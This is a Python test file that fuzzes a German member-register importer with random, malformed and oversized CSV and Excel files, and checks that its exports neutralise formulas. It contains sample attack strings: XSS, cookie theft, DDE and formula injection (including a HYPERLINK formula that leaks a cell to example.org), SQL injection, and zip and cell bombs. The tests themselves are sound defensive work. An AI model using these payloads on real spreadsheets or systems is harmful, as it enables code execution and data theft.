"""Fuzzing the member import (issue 10): random and malformed files never crash and never write partially.

Every example runs the real importer on a real register (an SQLite file; PostgreSQL for one property) and
compares a dump of every table before and after. The outcome must be one of: a :class:`RegisterError`
with a German message, a report with German problems and the register unchanged, or a successful import
that wrote exactly what a model of the file says is valid. Exports of what was imported neutralise every
formula start. Explicit tests cover the size limit, zip bombs, 100,000 rows and the real CLI.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import re
import subprocess
import sys
import time
import zipfile
from dataclasses import dataclass, field
from functools import lru_cache
from pathlib import Path

import pytest
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from sqlalchemy import select

from lpr_geo.boundaries import load_layer
from lpr_geo.register import (
    Contact,
    Participant,
    RegisterError,
    export_members,
    import_members,
    make_engine,
    status_events,
    upgrade,
)
from lpr_geo.register.columns import COLUMNS, field_of
from lpr_geo.register.errors import FileTooLarge
from lpr_geo.register.models import DEFAULT_NETWORK, Base
from lpr_geo.register.tabular import FORMULA_STARTS, unneutralise
from lpr_geo.settings import SettingsError, load_settings
from lpr_geo.spreadsheets import ReadLimits
from lpr_geo.status import EVENT_STATUSES, Status
from tests.register.conftest import PostgresDatabases

LPR_GEO = str(Path(sys.executable).with_name("lpr-geo"))
MB = 1024 * 1024
TODAY = dt.date.today()
EARLIEST = dt.date(1990, 10, 3)  # the Land Brandenburg exists since then
# the editor's rules, which the import shares (lpr_geo.register.validation): what it accepts, the editor saves
EMAIL = re.compile(r"[^@\s<>\"']+@[^@\s<>\"']+\.[^@\s<>\"'.]{2,}")
PHONE = re.compile(r"\+?[0-9 ()/.\-]+")
LIMITS = {"contact": 200, "role": 200, "organisation": 200, "email": 200, "phone": 100}
TEXT_FIELDS = ("note", "contact", "role", "organisation", "email", "phone")

GERMAN = re.compile(
    r"Datei|Zeile|Spalte|nicht|kein|ungültig|unbekannt|fehlt|leer|groß|Schlüssel|Datum|Status|widerspricht"
    r"|doppelt|erlaubt|Name|Netzwerk|passt|liegt|mehrdeutig|Ansprechpartner|Zeichen|lesbar|Zukunft|Tabelle",
    re.IGNORECASE,
)
ENGLISH = re.compile(
    r"\b(error|invalid|cannot|can't|codec|is not|not a|truncated|unexpected|exception|traceback|decode"
    r"|file|none|object)\b",
    re.IGNORECASE,
)

#: Text an attacker or a careless spreadsheet puts into cells.
ATTACKS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(document.cookie)>',
    "<svg/onload=alert(1)>",
    "javascript:alert(1)",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?leak="&A1,"klick")',
    "+SUM(1;2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "'; DROP TABLE participants; --",
    "{{7*7}}${7*7}",
    "_x0041__x005F_x0042_",
    "_xD800_",
    "\u202egnp.exe",
    "Straße, Gespräch; »Rückruf«",
    '"',
    "\\",
)

FUZZ = settings(
    # the same examples on every run (CI stays reproducible); LPR_GEO_FUZZ_RANDOM=1 explores new ones
    derandomize=os.environ.get("LPR_GEO_FUZZ_RANDOM") != "1",
    max_examples=150,
    deadline=None,
    database=None,  # no .hypothesis directory in the working tree; failures print their example
    suppress_health_check=[
        HealthCheck.function_scoped_fixture,
        HealthCheck.too_slow,
        HealthCheck.data_too_large,
    ],
)


# -- registers and their full contents --------------------------------------------------------------------


@pytest.fixture
def sqlite_register(tmp_path):
    engine = make_engine(f"sqlite:///{tmp_path / 'register.sqlite'}")
    upgrade(engine)
    yield engine
    engine.dispose()


@pytest.fixture(scope="module")
def pg_register():
    databases = PostgresDatabases()
    engine = make_engine(databases.register(0))
    yield engine
    engine.dispose()
    databases.drop_all()


def dump(engine) -> dict[str, list[tuple]]:
    """Every row of every register table (audit trail included), in a stable order."""
    with engine.connect() as connection:
        return {
            table.name: sorted((tuple(row) for row in connection.execute(table.select())), key=repr)
            for table in Base.metadata.sorted_tables
        }


def assert_german(message: str) -> None:
    assert message.strip(), "empty message"
    assert GERMAN.search(message), message
    assert not ENGLISH.search(message), message
    assert "Traceback" not in message


def run_import(engine, path: Path, **options):
    """Import; check the outcome is a German error or report and that a failed import wrote nothing."""
    before = dump(engine)
    try:
        report = import_members(engine, path, user="fuzz", **options)
    except RegisterError as error:
        assert_german(str(error))
        assert dump(engine) == before
        return None, before
    for problem in [*report.problems, *report.notes]:
        assert GERMAN.search(problem.message) or problem.row == 1, problem
        assert problem.row >= 1
    text = report.text()
    assert text.startswith(f"{path.name}: ")
    if not report.ok:
        assert "es wurde nichts importiert" in text
    if not report.ok or options.get("dry_run"):
        assert dump(engine) == before
    return report, before


# -- a model of member files ------------------------------------------------------------------------------


@lru_cache(maxsize=1)
def _keys() -> dict[str, tuple[str, ...]]:
    return {level: tuple(load_layer(level, "land")["key"]) for level in ("kreis", "amt", "gemeinde")}


def all_keys() -> set[str]:
    return {key for keys in _keys().values() for key in keys}


_ESCAPED = re.compile(r"_x([0-9A-Fa-f]{4})_")


def _xlsx_unescape(text: str) -> str:
    # what Excel's _xHHHH_ escapes stand for; a lone surrogate cannot be text and stays as written
    def sub(match: re.Match) -> str:
        code = int(match.group(1), 16)
        return match.group(0) if 0xD800 <= code <= 0xDFFF else chr(code)

    return _ESCAPED.sub(sub, text)


def seen(value: object, xlsx: bool) -> object:
    """A cell as the importer sees it (dates stay dates)."""
    if isinstance(value, dt.date):
        return value.date() if isinstance(value, dt.datetime) else value
    if isinstance(value, int):
        return str(value)
    # XML turns CR and CRLF into LF; Excel's _xHHHH_ escapes are then undone
    text = _xlsx_unescape(value.replace("\r\n", "\n").replace("\r", "\n")) if xlsx else value
    return unneutralise(text.strip())


def _xml_safe(text: str) -> str:
    # what a spreadsheet program can store at all: no XML-illegal control characters or non-characters
    return ILLEGAL_CHARACTERS_RE.sub("", text).replace("\ufffe", "").replace("\uffff", "")


text_chars = st.characters(exclude_categories=("Cs",))
free_text = st.one_of(
    st.just(""),
    st.sampled_from(ATTACKS),
    st.text(text_chars, max_size=30),
    st.builds(lambda a, b: a + b, st.sampled_from(ATTACKS), st.text(text_chars, max_size=8)),
    st.integers(95, 260).map(lambda n: "L" * n),  # around the column limits (100 and 200)
)
clean_text = st.one_of(
    st.just(""),
    st.sampled_from(ATTACKS),
    st.text(st.characters(exclude_categories=("Cs", "Cc")), max_size=30),
)
good_key = st.deferred(lambda: st.sampled_from(sorted(all_keys())))
bad_key = st.one_of(
    st.sampled_from(
        [
            "1206212a",
            "12O62124",
            "1206212",
            "1206212456",
            "09162000",  # München
            "11000000",  # Berlin
            "12062999",
            "12999",
            "129999999",
            "12 062 124",
            "=12062124",
            "<b>12062124</b>",
            "١٢٠٦٢١٢٤",  # Arabic-Indic digits
            "12062124.5",
            "-12062124",
            "'12062124",
        ]
    ),
    st.text("0123456789", min_size=1, max_size=14),
    st.text(text_chars, min_size=1, max_size=12),
)
status_words = [s.label for s in EVENT_STATUSES] + [s.value for s in EVENT_STATUSES]
good_status = st.builds(
    lambda word, form: form(word),
    st.sampled_from(status_words),
    st.sampled_from([str, str.upper, str.lower, lambda s: f"  {s} ", lambda s: s.replace(" ", "   ")]),
)
bad_status = st.one_of(
    st.sampled_from(
        ["Nicht kontaktiert", "not_contacted", "Mitgleid", "<b>Mitglied</b>", "=Mitglied", "Member"]
    ),
    st.text(text_chars, min_size=1, max_size=12),
)
good_date = st.dates(dt.date(2020, 2, 20), TODAY - dt.timedelta(days=1))
date_text = st.builds(
    lambda day, fmt: fmt(day),
    good_date,
    st.sampled_from(
        [
            lambda d: d.strftime("%d.%m.%Y"),
            lambda d: d.isoformat(),
            lambda d: f"{d.day}.{d.month}.{d.year}",
            lambda d: f" {d:%d.%m.%Y} ",
        ]
    ),
)
bad_date_text = st.one_of(
    st.sampled_from(
        [
            "31.02.2024",
            "00.00.0000",
            "01.01.99999",
            "29.02.2023",
            "2024-02-30",
            "32.01.2021",
            "01.13.2021",
            "2021-13-01",
            "07.06.21",  # two-digit year
            "01.01.0001",
            "30.12.1899",  # Excel's day zero
            "31.12.9999",
            (TODAY + dt.timedelta(days=400)).strftime("%d.%m.%Y"),
            "morgen",
            "=TODAY()",
            "<script>1</script>",
            "1e5",
        ]
    ),
    st.text(text_chars, min_size=1, max_size=12),
)
impossible_date_cell = st.sampled_from(
    [dt.datetime(1899, 12, 30), dt.datetime(1900, 1, 1), dt.datetime(2999, 1, 1), dt.datetime(9999, 12, 31)]
)


def parse_day(value: object) -> dt.date | None:
    """The date a cell means if it is a plausible status date (the rule the importer must apply)."""
    if isinstance(value, dt.date):
        day = value
    else:
        for pattern in ("%d.%m.%Y", "%Y-%m-%d"):
            try:
                day = dt.datetime.strptime(str(value).strip(), pattern).date()
                break
            except ValueError:
                continue
        else:
            return None
    return day if EARLIEST <= day <= TODAY else None


def status_of(value: object) -> Status | None:
    try:
        status = Status.from_label(str(value))
    except ValueError:
        return None
    return None if status is Status.NOT_CONTACTED else status


@dataclass
class Row:
    """One data row: cells by field as written, and what the importer must make of them."""

    cells: dict[str, object]
    valid: bool
    key: str = ""
    status: Status | None = None
    day: dt.date | None = None
    text: dict[str, str] = field(default_factory=dict)  # text fields as the importer sees them


@st.composite
def member_row(draw, xlsx: bool, with_network: bool, clean: bool) -> Row:
    """A row; a ``clean`` row is drawn from valid values only (HTML, JS and formula starts included)."""
    cells: dict[str, object] = {}
    valid = True
    key = draw(good_key if clean else st.one_of(good_key, good_key, bad_key))
    cells["key"] = int(key) if xlsx and key in all_keys() and draw(st.booleans()) else key
    key_seen = seen(cells["key"], xlsx)
    valid &= key_seen in all_keys()
    status_cell = draw(good_status if clean else st.one_of(good_status, good_status, good_status, bad_status))
    cells["status"] = status_cell
    status = status_of(seen(status_cell, xlsx))
    valid &= status is not None
    if clean:
        since = draw(st.one_of(date_text, good_date) if xlsx else date_text)
    elif xlsx:
        since = draw(st.one_of(date_text, good_date, bad_date_text, impossible_date_cell))
    else:
        since = draw(st.one_of(date_text, date_text, bad_date_text))
    cells["since"] = since
    day = parse_day(seen(since, xlsx))
    valid &= day is not None
    if with_network:
        networks = ["", DEFAULT_NETWORK, f" {DEFAULT_NETWORK} "] + ([] if clean else ["AG 5", "<i>AG 4</i>"])
        network = draw(st.sampled_from(networks))
        cells["network"] = network
        valid &= seen(network, xlsx) in ("", DEFAULT_NETWORK)
    text = {}
    has_contact = draw(st.booleans())
    for name in TEXT_FIELDS:
        if name == "email":
            value = draw(
                st.one_of(
                    st.just(""),
                    st.from_regex(r"[a-z0-9.%+-]{1,12}@[a-z0-9-]{1,10}\.[a-z]{2,6}", fullmatch=True),
                    *(
                        []
                        if clean
                        else [st.sampled_from(["kein-mail", "a@b", "a b@c.de", "@b.de", "<x>@y", "=x@y"])]
                    ),
                )
            )
        elif name == "phone":
            numbers = st.from_regex(r"(\+49 |0)[1-9][0-9]{2,4}[ /-]?[0-9]{3,8}", fullmatch=True)
            if clean:
                value = draw(numbers if has_contact else st.just(""))
            else:
                value = draw(st.one_of(numbers, free_text))
        elif clean and name == "contact":
            value = draw(
                clean_text.filter(lambda t: t.strip() not in ("", "'")) if has_contact else st.just("")
            )
        elif clean:
            value = draw(clean_text) if has_contact or name == "note" else ""
        else:
            value = draw(free_text)
        if xlsx:
            value = _xml_safe(value)
        cells[name] = value
        text[name] = seen(value, xlsx)
        valid &= "\x00" not in text[name] and len(text[name]) <= LIMITS.get(name, 10**9)
    if not text["contact"] and any(text[f] for f in ("role", "organisation", "email", "phone")):
        valid = False
    if text["email"] and not EMAIL.fullmatch(text["email"]):
        valid = False
    if text["phone"] and (not PHONE.fullmatch(text["phone"]) or sum(c.isdigit() for c in text["phone"]) < 3):
        valid = False
    return Row(cells, valid, key_seen if valid else "", status, day, text)


def header_spelling(column) -> st.SearchStrategy[str]:
    return st.builds(
        lambda name, form: form(name),
        st.sampled_from((column.header, *column.aliases)),
        st.sampled_from([str, str.upper, str.lower, lambda s: f" {s} "]),
    )


@dataclass
class MemberFile:
    header: list[str]
    rows: list[list[object]]
    model: list[Row]
    valid: bool


@st.composite
def member_file(draw, xlsx: bool) -> MemberFile:
    by_field = {c.field: c for c in COLUMNS}
    clean = draw(st.booleans())
    with_network = draw(st.booleans())
    fields = ["key", "status", "since", *TEXT_FIELDS] + (["network"] if with_network else [])
    fields = draw(st.permutations(fields))
    header = [draw(header_spelling(by_field[f])) for f in fields]
    valid = True
    extra = draw(st.lists(st.text("abcdefghijklmnopqrstuvwxyz XYZ", max_size=10), max_size=2))
    extra = [name for name in extra if field_of(name) is None]
    duplicate = None if clean else draw(st.sampled_from([None, None, None, *fields]))
    if duplicate is not None:
        header.append(draw(header_spelling(by_field[duplicate])))
        valid = False  # "doppelte Spalte"
    header += extra
    model = draw(st.lists(member_row(xlsx, with_network, clean), min_size=int(clean), max_size=6))
    rows = []
    for row in model:
        values = [row.cells[f] for f in fields]
        if duplicate is not None:
            values.append(row.cells[duplicate])
        values += [draw(clean_text if clean else free_text) for _ in extra]
        rows.append([_xml_safe(v) if xlsx and isinstance(v, str) else v for v in values])
    valid &= all(row.valid for row in model)
    if valid:  # the file must not contradict itself
        events: dict[tuple, tuple] = {}
        people: dict[tuple, dict] = {}
        for row in model:
            first = events.setdefault((row.key, row.day), (row.status, row.text["note"]))
            valid &= first == (row.status, row.text["note"])
            if row.text["contact"]:
                known = people.setdefault((row.key, row.text["contact"]), {})
                for name in ("role", "organisation", "email", "phone"):
                    if row.text[name]:
                        valid &= known.setdefault(name, row.text[name]) == row.text[name]
    return MemberFile(header, rows, model, valid)


def write_csv(
    path: Path, header: list, rows: list[list], *, delimiter=";", encoding="utf-8", quoting=0, eol="\r\n"
):
    records = [header, *([str(v) for v in row] for row in rows)]
    if quoting == csv.QUOTE_MINIMAL and any("\r" in v or "\n" in v for record in records for v in record):
        # csv quotes only fields holding characters of *this* line terminator: a bare CR with "\n" endings
        # would end the record for every reader (Excel too), so the file would no longer say what the model
        # says; quoting every field keeps it one record
        quoting = csv.QUOTE_ALL
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, delimiter=delimiter, quoting=quoting, lineterminator=eol)
    writer.writerows(records)
    path.write_bytes(buffer.getvalue().encode(encoding))
    return path


def write_xlsx(path: Path, header: list, rows: list[list]) -> Path:
    workbook = Workbook()
    sheet = workbook.active
    for r, values in enumerate([header, *rows], start=1):
        for c, value in enumerate(values, start=1):
            if value == "":
                continue
            cell = sheet.cell(row=r, column=c)
            cell.value = value
            if isinstance(value, str):
                cell.data_type = "s"  # text typed into a cell formatted as text, even if it starts with "="
            elif isinstance(value, dt.date):
                cell.number_format = "DD.MM.YYYY"
    workbook.save(path)
    return path


def check_against_model(engine, file: MemberFile, report, before_events: dict) -> None:
    """After an import: invalid files changed nothing, valid files wrote exactly their rows."""
    event(
        "valid file with rows"
        if file.valid and file.model
        else "valid file"
        if file.valid
        else "invalid file"
    )
    if not file.valid:
        assert report is None or not report.ok, (report.text(), file)
        return
    assert report is not None and report.ok, (report and report.text(), file)
    events = status_events(engine)
    after = {
        (k, d): s for k, d, s in zip(events["key"], events["effective_date"], events["status"], strict=True)
    }
    expected = {(row.key, row.day): row.status.value for row in file.model}
    for ident, status in after.items():
        if before_events.get(ident) != status:
            assert expected.get(ident) == status, ("unexpected change", ident, status)
    for ident, status in expected.items():
        assert after[ident] == status
    with engine.connect() as connection:
        people = {
            (key, name): (role, organisation, email, phone)
            for key, name, role, organisation, email, phone in connection.execute(
                select(
                    Participant.key,
                    Contact.name,
                    Contact.role,
                    Contact.organisation,
                    Contact.email,
                    Contact.phone,
                ).join(Contact.participant)
            )
        }
    for row in file.model:
        if row.text["contact"]:
            stored = people[(row.key, row.text["contact"])]
            for name, value in zip(("role", "organisation", "email", "phone"), stored, strict=True):
                if row.text[name]:
                    assert value == row.text[name], (name, value, row.text[name])


def check_export(engine, tmp_path: Path, suffix: str) -> None:
    """The register's export holds no cell a spreadsheet would run, and imports back without a change."""
    path = tmp_path / f"export{suffix}"
    export_members(engine, path)
    if suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as handle:
            cells = [cell for row in csv.reader(handle, delimiter=";") for cell in row]
    else:
        sheet = load_workbook(path).active
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
        cells = [cell.value for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    dangerous = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert not dangerous, dangerous
    report, _ = run_import(engine, path)
    assert report is not None and report.ok and not report.changed, report and report.text()


def _events(engine) -> dict:
    events = status_events(engine)
    return {
        (k, d): s for k, d, s in zip(events["key"], events["effective_date"], events["status"], strict=True)
    }


# -- properties --------------------------------------------------------------------------------------------


@FUZZ
@given(
    data=st.binary(max_size=3000),
    suffix=st.sampled_from([".csv", ".xlsx"]),
    prefix=st.sampled_from([b"", b"\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff", b"PK\x03\x04", b"\x00\x00"]),
)
def test_random_bytes_never_crash(sqlite_register, tmp_path, data, suffix, prefix):
    report, _ = run_import(sqlite_register, write_bytes(tmp_path / f"junk{suffix}", prefix + data))
    assert report is None or not report.changed


def write_bytes(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


@FUZZ
@given(
    file=member_file(xlsx=False),
    delimiter=st.sampled_from([";", ",", "\t"]),
    encoding=st.sampled_from(["utf-8", "utf-8-sig", "utf-16", "cp1252"]),
    quoting=st.sampled_from([csv.QUOTE_MINIMAL, csv.QUOTE_ALL]),
    eol=st.sampled_from(["\r\n", "\n"]),
    dry_run=st.booleans(),
)
def test_random_csv_files(sqlite_register, tmp_path, file, delimiter, encoding, quoting, eol, dry_run):
    text = "".join(str(v) for row in [file.header, *file.rows] for v in row)
    if encoding == "cp1252":
        try:
            as_utf8 = text.encode("cp1252").decode("utf-8")
        except UnicodeEncodeError:
            encoding = "utf-8"  # not encodable in Windows-1252
        except UnicodeDecodeError:
            pass
        else:
            if as_utf8 != text:
                encoding = "utf-8"  # these Windows-1252 bytes are valid UTF-8 too: ambiguous by nature
    path = write_csv(
        tmp_path / "fuzz.csv",
        file.header,
        file.rows,
        delimiter=delimiter,
        encoding=encoding,
        quoting=quoting,
        eol=eol,
    )
    before_events = _events(sqlite_register)
    report, _ = run_import(sqlite_register, path, dry_run=dry_run)
    if "\x00" in text:
        assert report is None, "a file with NUL bytes is no text file"
        return
    if dry_run:
        assert report is None or file.valid == report.ok, (report and report.text(), file)
        return
    check_against_model(sqlite_register, file, report, before_events)
    if report is not None and report.ok and report.changed:
        check_export(sqlite_register, tmp_path, ".csv")


@FUZZ
@given(file=member_file(xlsx=True))
def test_random_xlsx_files(sqlite_register, tmp_path, file):
    path = write_xlsx(tmp_path / "fuzz.xlsx", file.header, file.rows)
    before_events = _events(sqlite_register)
    report, _ = run_import(sqlite_register, path)
    check_against_model(sqlite_register, file, report, before_events)
    if report is not None and report.ok and report.changed:
        check_export(sqlite_register, tmp_path, ".xlsx")


@pytest.mark.postgres
@settings(FUZZ, max_examples=60)
@given(data=st.data())
def test_random_files_on_postgres(pg_register, tmp_path, data):
    """PostgreSQL enforces column lengths and refuses NUL characters: the importer must check first."""
    xlsx = data.draw(st.booleans(), label="xlsx")
    file = data.draw(member_file(xlsx=xlsx), label="file")
    if xlsx:
        path = write_xlsx(tmp_path / "fuzz.xlsx", file.header, file.rows)
    else:
        path = write_csv(tmp_path / "fuzz.csv", file.header, file.rows, encoding="utf-8-sig")
    before_events = _events(pg_register)
    report, _ = run_import(pg_register, path)
    if not xlsx and any("\x00" in str(v) for row in [file.header, *file.rows] for v in row):
        assert report is None
        return
    check_against_model(pg_register, file, report, before_events)


@lru_cache(maxsize=1)
def _good_workbook() -> bytes:
    """One valid workbook, built once: its bytes (with their timestamp) must not change between examples."""
    buffer = io.BytesIO()
    workbook = Workbook()
    for row in (
        ["AGS", "Status", "Seit", "Bemerkung"],
        ["12062124", "Mitglied", dt.datetime(2021, 6, 7), "<b>x</b>"],
    ):
        workbook.active.append(row)
    workbook.save(buffer)
    return buffer.getvalue()


@settings(FUZZ, max_examples=40)
@given(data=st.data())
def test_damaged_xlsx_files(sqlite_register, tmp_path, data):
    """A real workbook with bytes changed, cut off or its parts replaced."""
    good = _good_workbook()
    how = data.draw(st.sampled_from(["flip", "cut", "replace-part"]))
    if how == "flip":
        position = data.draw(st.integers(0, len(good) - 1))
        damaged = (
            good[:position] + bytes([good[position] ^ data.draw(st.integers(1, 255))]) + good[position + 1 :]
        )
    elif how == "cut":
        damaged = good[: data.draw(st.integers(0, len(good) - 1))]
    else:
        source = zipfile.ZipFile(io.BytesIO(good))
        victim = data.draw(st.sampled_from(source.namelist()))
        junk = data.draw(
            st.one_of(st.binary(max_size=200), st.sampled_from([b"", b"<x/>", b"<?xml version='1.0'?>"]))
        )
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as target:
            for name in source.namelist():
                target.writestr(name, junk if name == victim else source.read(name))
        damaged = buffer.getvalue()
    report, _ = run_import(sqlite_register, write_bytes(tmp_path / "kaputt.xlsx", damaged))
    assert report is None or not report.changed or report.ok


# -- explicit cases ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("leer.csv", b""),
        ("leer.xlsx", b""),
        ("nur-bom.csv", b"\xef\xbb\xbf"),
        ("leerzeilen.csv", b"\r\n\r\n\n"),
        ("binaer.csv", bytes(range(256)) * 4),
        ("utf16-kaputt.csv", b"\xff\xfeA\x00\x00\xd8B"),
        ("zip-als-csv.csv", b"PK\x03\x04" + b"\x00" * 100),
        ("text-als-xlsx.xlsx", b"AGS;Status;Seit\r\n12062124;Mitglied;07.06.2021\r\n"),
        ("alt.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)),
    ],
)
def test_empty_and_junk_files_give_a_german_error(sqlite_register, tmp_path, name, content):
    before = dump(sqlite_register)
    with pytest.raises(RegisterError) as caught:
        import_members(sqlite_register, write_bytes(tmp_path / name, content))
    assert_german(str(caught.value))
    assert str(caught.value).startswith(name)
    assert dump(sqlite_register) == before


def test_old_excel_file_is_named(sqlite_register, tmp_path):
    path = write_bytes(tmp_path / "alt.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504))
    with pytest.raises(RegisterError, match=r"alte Excel-Datei \(\.xls\) oder verschlüsselt"):
        import_members(sqlite_register, path)


def test_blank_first_line_means_missing_columns_not_an_empty_file(sqlite_register, tmp_path):
    report, _ = run_import(
        sqlite_register,
        write_bytes(tmp_path / "m.csv", b"\r\nAGS;Status;Seit\r\n12062124;Mitglied;07.06.2021\r\n"),
    )
    assert "Zeile 1, Feld »Status«: Spalte fehlt" in report.text()


def test_header_only_file_imports_nothing(sqlite_register, tmp_path):
    report, before = run_import(sqlite_register, write_bytes(tmp_path / "kopf.csv", b"AGS;Status;Seit\r\n"))
    assert report.ok and not report.changed and report.rows == 0


def test_very_long_field_is_a_problem_not_a_crash(sqlite_register, tmp_path):
    path = write_csv(
        tmp_path / "lang.csv",
        ["AGS", "Status", "Seit", "Bemerkung"],
        [["12062124", "Mitglied", "07.06.2021", "x" * 300_000]],
    )
    report, _ = run_import(sqlite_register, path)
    assert report is None or report.ok


@pytest.mark.parametrize(
    ("since", "expected"),
    [
        ("31.02.2024", "ungültiges Datum »31.02.2024«"),
        ("00.00.0000", "ungültiges Datum »00.00.0000«"),
        ("01.01.99999", "ungültiges Datum »01.01.99999«"),
        ("07.06.0021", "der 07.06.0021 liegt vor dem 03.10.1990"),
        ("30.12.1899", "der 30.12.1899 liegt vor dem 03.10.1990"),
        ("31.12.9999", "liegt in der Zukunft"),
    ],
)
def test_impossible_dates(sqlite_register, tmp_path, since, expected):
    path = write_csv(tmp_path / "m.csv", ["AGS", "Status", "Seit"], [["12062124", "Mitglied", since]])
    report, _ = run_import(sqlite_register, path)
    assert not report.ok and expected in report.text(), report.text()


def test_contact_longer_than_the_column_is_a_problem(sqlite_register, tmp_path):
    path = write_csv(
        tmp_path / "m.csv",
        ["AGS", "Status", "Seit", "Ansprechpartner", "Telefon"],
        [["12062124", "Mitglied", "07.06.2021", "E" * 201, "1" * 101]],
    )
    report, _ = run_import(sqlite_register, path)
    assert "Feld »Ansprechpartner«: zu lang (201 Zeichen, höchstens 200)" in report.text()
    assert "Feld »Telefon«: zu lang (101 Zeichen, höchstens 100)" in report.text()


def test_duplicated_contact_with_contradicting_details_is_a_problem(sqlite_register, tmp_path):
    path = write_csv(
        tmp_path / "m.csv",
        ["AGS", "Status", "Seit", "Ansprechpartner", "E-Mail"],
        [
            ["12062124", "Angefragt", "07.06.2021", "Erika Beispiel", "erika@example.org"],
            ["12062124", "Mitglied", "08.06.2022", "Erika Beispiel", "erika@example.com"],
        ],
    )
    report, _ = run_import(sqlite_register, path)
    assert (
        "Zeile 3, Feld »E-Mail«: widerspricht Zeile 2 (gleiche Person, »erika@example.org«)" in report.text()
    )


def test_nul_character_in_xlsx_text_is_a_problem(sqlite_register, tmp_path):
    path = write_xlsx(
        tmp_path / "m.xlsx",
        ["AGS", "Status", "Seit", "Bemerkung"],
        [["12062124", "Mitglied", "07.06.2021", "a_x0000_b"]],
    )
    report, _ = run_import(sqlite_register, path)
    assert "Feld »Bemerkung«: enthält ein Steuerzeichen, das nicht gespeichert werden kann" in report.text()


def test_control_characters_survive_the_xlsx_round_trip(sqlite_register, tmp_path):
    note = "Zeile\x01mit\x1fSteuerzeichen\x0bund\rCR"
    path = write_csv(
        tmp_path / "m.csv",
        ["AGS", "Status", "Seit", "Bemerkung"],
        [["12062124", "Mitglied", "07.06.2021", note]],
    )
    report, _ = run_import(sqlite_register, path)
    assert report.ok, report.text()
    check_export(sqlite_register, tmp_path, ".xlsx")
    check_export(sqlite_register, tmp_path, ".csv")


def _xlsx_with_sheet_xml(path: Path, sheet_xml: bytes) -> Path:
    """A valid workbook whose first worksheet's XML is replaced (to forge dimensions or blow up rows)."""
    source = write_xlsx(path.with_name("vorlage.xlsx"), ["x"], [])
    with zipfile.ZipFile(source) as original, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for name in original.namelist():
            target.writestr(name, sheet_xml if name == "xl/worksheets/sheet1.xml" else original.read(name))
    return path


def _sheet(rows: str, dimension: str = "") -> bytes:
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"{dim}<sheetData>{rows}</sheetData></worksheet>"
    ).encode()


def _inline_row(number: int, *values: str, first_column: int = 1) -> str:
    from openpyxl.utils import get_column_letter

    cells = "".join(
        f'<c r="{get_column_letter(first_column + i)}{number}" t="inlineStr"><is><t>{v}</t></is></c>'
        for i, v in enumerate(values)
    )
    return f'<row r="{number}">{cells}</row>'


def test_xlsx_with_a_wrong_dimension_is_read_completely(sqlite_register, tmp_path):
    """A sheet claiming A1:C2 but holding three data rows: every row counts (none silently dropped)."""
    rows = _inline_row(1, "AGS", "Status", "Seit") + "".join(
        _inline_row(n, key, "Mitglied", "07.06.2021")
        for n, key in ((2, "12062124"), (3, "12063080"), (4, "12999999"))
    )
    path = _xlsx_with_sheet_xml(tmp_path / "m.xlsx", _sheet(rows, dimension="A1:C2"))
    report, _ = run_import(sqlite_register, path)
    assert report.rows == 3 and not report.ok
    assert "Zeile 4, Feld »AGS«: unbekannter Schlüssel »12999999«" in report.text(), report.text()


def test_xlsx_cell_bomb_is_rejected_quickly(sqlite_register, tmp_path):
    """Rows with one cell in the last column (XFD) and a dimension of a million rows: no blow-up."""
    rows = _inline_row(1, "AGS", "Status", "Seit") + "".join(
        _inline_row(n, "x", first_column=16384) for n in range(2, 3000)
    )
    path = _xlsx_with_sheet_xml(tmp_path / "bombe.xlsx", _sheet(rows, dimension="A1:XFD1048576"))
    start = time.perf_counter()
    report, _ = run_import(sqlite_register, path)
    elapsed = time.perf_counter() - start
    print(f"\nXLSX cell bomb ({path.stat().st_size} bytes): {elapsed * 1000:.0f} ms")
    assert report is None or not report.ok


def test_xlsx_zip_bomb_is_rejected_before_unpacking(sqlite_register, tmp_path):
    padding = "<!--" + " " * (3 * MB) + "-->"
    rows = _inline_row(1, "AGS", "Status", "Seit") + padding
    path = _xlsx_with_sheet_xml(tmp_path / "bombe.xlsx", _sheet(rows))
    assert path.stat().st_size < 0.1 * MB
    before = dump(sqlite_register)
    with pytest.raises(FileTooLarge) as caught:
        import_members(sqlite_register, path, limits=ReadLimits(max_mb=0.1))
    assert "entpackt" in str(caught.value) and "höchstens 2 MB erlaubt" in str(caught.value), str(
        caught.value
    )
    assert_german(str(caught.value))
    assert dump(sqlite_register) == before


def _big_csv(path: Path, size: int) -> Path:
    """A CSV file of at least ``size`` bytes: the same valid row again and again."""
    row = "12062124;Mitglied;07.06.2021;Erika Beispiel;erika@example.org;<script>alert(1)</script>\r\n"
    block = row * 10_000
    with path.open("w", encoding="utf-8", newline="") as handle:
        handle.write("AGS;Status;Seit;Ansprechpartner;E-Mail;Bemerkung\r\n")
        while handle.tell() < size - len(block):
            handle.write(block)
        while handle.tell() < size:
            handle.write(row)
    return path


def test_fifty_megabyte_file_is_rejected_without_reading_it(sqlite_register, tmp_path):
    path = _big_csv(tmp_path / "gross.csv", 50 * MB)
    before = dump(sqlite_register)
    start = time.perf_counter()
    with pytest.raises(FileTooLarge) as caught:
        import_members(sqlite_register, path)
    elapsed = time.perf_counter() - start
    print(f"\n50 MB file rejected in {elapsed * 1000:.1f} ms")
